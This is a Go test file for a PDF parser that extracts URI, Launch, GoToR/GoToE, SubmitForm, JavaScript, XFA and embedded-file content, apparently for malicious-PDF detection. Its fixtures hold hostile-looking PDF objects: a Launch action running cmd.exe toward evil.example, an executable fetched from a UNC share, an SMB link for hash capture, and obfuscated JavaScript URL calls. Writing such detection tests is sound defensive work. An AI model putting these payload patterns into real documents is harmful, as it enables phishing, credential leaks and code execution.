package pdf

import (
	"encoding/hex"
	"strings"
	"testing"
)

func TestLinks(t *testing.T) {
	const u = "https://evil.example/a?b=1"
	for _, c := range []struct{ name, object, want, notes string }{
		{"a link", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (" + u + ") >> >>", "uri action " + u, ""},
		{"a link with a map", "<< /S /URI /URI (" + u + ") /IsMap true >>", "uri action " + u, ""},
		{"names with escapes", "<< /A << /#53 /#55RI /U#52I (" + u + ") >> >>", "uri action " + u, ""},
		{"a hexadecimal string", "<< /A << /S /URI /URI <" + hex.EncodeToString([]byte(u)) + "> >> >>", "uri action " + u, ""},
		{"a hexadecimal string with blanks and an odd digit", "<< /URI <68 74\n74 70 3a 2f 2f 65 2e 65 78 61 6d 70 6c 65 2f 7> >>", "uri action http://e.example/p", ""},
		{"UTF-16", "<< /URI (\\376\\377\\000h\\000t\\000t\\000p\\000:\\000/\\000/\\000a\\000.\\000b) >>", "uri action http://a.b", ""},
		{"UTF-8 with a mark", "<< /URI (\xef\xbb\xbfhttps://例え.example/) >>", "uri action https://例え.example/", ""},
		{"a string over two lines", "<< /URI (https://evil.\\\nexample/x) >>", "uri action https://evil.example/x", ""},
		{"a string over two lines that end in two bytes", "<< /URI (https://evil.\\\r\nexample/x) >>", "uri action https://evil.example/x", ""},
		{"ends of lines that browsers take out", "<< /URI ( https://evil.\r\nexample/x\t) >>", "uri action https://evil.example/x", ""},
		{"octal", "<< /URI (\\150ttps://evil.example/) >>", "uri action https://evil.example/", ""},
		{"brackets inside", "<< /URI (https://evil.example/(a)) >>", "uri action https://evil.example/(a)", ""},
		{"comments", "<< /A % )>>\n<< /S/URI%x\n/URI%(\n(" + u + ")>>>>", "uri action " + u, ""},
		{"without a scheme", "<< /URI (www.evil.example/x) >>", "uri action http://www.evil.example/x", ""},
		{"what cannot be parsed", "<< /URI (https://evil.example/%zz) >>", "uri action https://evil.example/%zz", ""},
		{"through a reference", "<< /A << /S /URI /URI 2 0 R >> >>\nendobj\n2 0 obj (" + u + ")", "uri action " + u, ""},
		{"a base", "<< /URI << /Base (https://evil.example/d/) >> /A << /S /URI /URI (x?y) >> >>", "uri action https://evil.example/d/ (resource)\nuri action https://evil.example/d/x?y", ""},
		{"one after the other", "<< /S /URI /URI (https://a.example/) /Next [<< /S /URI /URI (https://b.example/) >>] >>", "uri action https://a.example/\nuri action https://b.example/", ""},
		{"a program", "<< /S /Launch /F (\\\\\\\\203.0.113.7\\\\share\\\\x.exe) >>", "launch file://203.0.113.7/share/x.exe", "launch-action"},
		{"a command", "<< /S /Launch /Win << /F (cmd.exe) /P (/c start https://evil.example/c \"x\") >> >>", "launch https://evil.example/c", "launch-action"},
		{"another file", "<< /S /GoToR /F << /Type /Filespec /UF (https://evil.example/2.pdf) >> >>", "goto remote https://evil.example/2.pdf", ""},
		{"a share for a hash", "<< /AA << /O << /S /GoToE /F (\\\\\\\\192.0.2.1\\\\x) /D [0 /Fit] >> >> >>", "goto remote file://192.0.2.1/x", "open-action"},
		{"a form", "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/f) >> >>", "submit form https://evil.example/f", ""},
		{"data", "<< /S /ImportData /F (https://evil.example/d) >>", "import data https://evil.example/d", ""},
		{"a stream elsewhere", "<< /Length 0 /F << /FS /URL /F (https://evil.example/s) >> >>\nstream\nendstream", "import data https://evil.example/s (resource)", ""},
		{"a film", "<< /Subtype /Movie /Movie << /F << /FS /URL /F (https://evil.example/m) >> >> >>", "import data https://evil.example/m (resource)", "rich-media"},
		{"rich media", "<< /Subtype /RichMedia >>", "", "rich-media"},
		{"on opening", "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>", "", "javascript open-action"},
		{"a link on opening", "<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj << /S /URI /URI (" + u + ") >>", "open action " + u, "open-action"},
		{"a link when a page is shown", "<< /Type /Page /AA << /O 2 0 R >> >>\nendobj\n2 0 obj << /S /URI /URI (" + u + ") >>", "open action " + u, "open-action"},
		{"to a page on opening", "<< /Type /Catalog /OpenAction << /S /GoTo /D [1 0 R] >> >>", "", ""},
		{"a form to fill in", "<< /AcroForm << /Fields [] >> >>", "", "acroform"},
	} {
		f := Read(file("/Root 1 0 R", c.object), Limits{})
		if links(f) != c.want || strings.Join(f.Notes, " ") != c.notes {
			t.Errorf("%s: links %q, notes %v; want %q, %q", c.name, links(f), f.Notes, c.want, c.notes)
		}
	}
}

func TestScripts(t *testing.T) {
	const want = "javascript https://evil.example/j"
	for _, c := range []struct{ name, script, want string }{
		{"launchURL", `app.launchURL("https://evil.example/j", true)`, want},
		{"joined literals", "app.launchURL(\"https://evil\" +\n '.exa' + \"mple/j\", true)", want},
		{"hexadecimal and Unicode escapes", `this.submitForm('\x68\u0074tps://evil.example/j')`, want},
		{"octal escapes", `getURL("\150ttps:\/\/evil.example/j")`, want},
		{"unescape", `getURL(unescape("%68ttps%3A%2F%2Fevil.example/j"))`, want},
		{"codes of characters", `getURL(String.fromCharCode(104,116,0x74,112,115) + "://evil.example/j")`, want},
		{"arithmetic", `var a = 1 + 2; b = "x" + c + "y"`, ""},
	} {
		escaped := strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(c.script)
		for kind, object := range map[string]string{
			"string": "<< /S /JavaScript /JS (" + escaped + ") >>",
			"stream": "<< /S /#4aava#53cript /J#53 2 0 R >>\nendobj\n2 0 obj\n" + stream("/Filter /FlateDecode", deflated(c.script)),
		} {
			f := Read(file("", object), Limits{})
			if links(f) != c.want || strings.Join(f.Notes, " ") != "javascript" || len(f.Scripts) != 1 || f.Scripts[0] != c.script {
				t.Errorf("%s in a %s: links %q, notes %v, scripts %q; want %q", c.name, kind, links(f), f.Notes, f.Scripts, c.want)
			}
		}
	}
}

// An XFA form says where it sends itself; the names of its namespaces are no URLs.
func TestFormOfXML(t *testing.T) {
	xml := `<xdp:xdp xmlns:xdp="http://ns.example/xdp/"><submit format="xml"
 target="https://evil.example/s?a=1&amp;b=2"/><text>Please pay</text>` +
		`<script contentType="application/x-javascript">xfa.host.gotoURL("https://evil.example/" + "g");</script></xdp:xdp>`
	f := Read(file("", "<< /XFA [(preamble) 2 0 R] >>", stream("/Filter /FlateDecode", deflated(xml))), Limits{})
	if want := "submit form https://evil.example/s?a=1&b=2\njavascript https://evil.example/g"; links(f) != want {
		t.Errorf("links %q, want %q", links(f), want)
	}
	if strings.Join(f.Notes, " ") != "javascript xfa" || !strings.Contains(f.Text, "Please pay") || strings.Contains(f.Text, "ns.example") {
		t.Errorf("notes %v, text %q", f.Notes, f.Text)
	}
}

// What a file says of itself may have a URL; that of its software is none.
func TestDescription(t *testing.T) {
	f := Read(file("/Info 1 0 R", "<< /Title (see https://evil.example/t now) /Producer (PDF by https://software.example/) >>"), Limits{})
	if want := "metadata https://evil.example/t (resource)"; links(f) != want {
		t.Errorf("links %q, want %q", links(f), want)
	}
}

func TestTextOfStrings(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"PDFDocEncoding", "caf\xe9 \x80 \xa0", "café • €"},
		{"little-endian UTF-16", "\xff\xfea\x00", "a"},
		{"Shift_JIS", "\x90\xbf\x8b\x81\x8f\x91\x82\xcc\x8c\x8f.pdf", "請求書の件.pdf"},
		{"half a character", "\xfe\xff\x00a\x00", "a"},
	} {
		if got := textOf([]byte(c.in)); got != c.want {
			t.Errorf("%s: textOf(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

func TestEmbeddedFiles(t *testing.T) {
	f := Read(file("",
		"<< /Type /Filespec /F (bill.exe) /UF <FEFF8ACB6C42002E006500780065> /EF << /F 2 0 R /UF 2 0 R >> >>",
		stream("/Type /EmbeddedFile /Filter /FlateDecode", deflated("MZ payload")),
		"<< /F (again) /EF << /F 2 0 R >> >>",
	), Limits{})
	if len(f.Files) != 1 || f.Files[0].Name != "請求.exe" || string(f.Files[0].Data) != "MZ payload" || strings.Join(f.Notes, " ") != "embedded-file" {
		t.Errorf("files %q, notes %v", f.Files, f.Notes)
	}
}

func TestIsPDF(t *testing.T) {
	for in, want := range map[string]bool{
		"%PDF-1.4": true, strings.Repeat("x", 1019) + "%PDF-1.4": true, strings.Repeat("x", 1020) + "%PDF-": false, "": false, "PK": false,
	} {
		if got := IsPDF([]byte(in)); got != want {
			t.Errorf("IsPDF of %d bytes = %v, want %v", len(in), got, want)
		}
	}
}
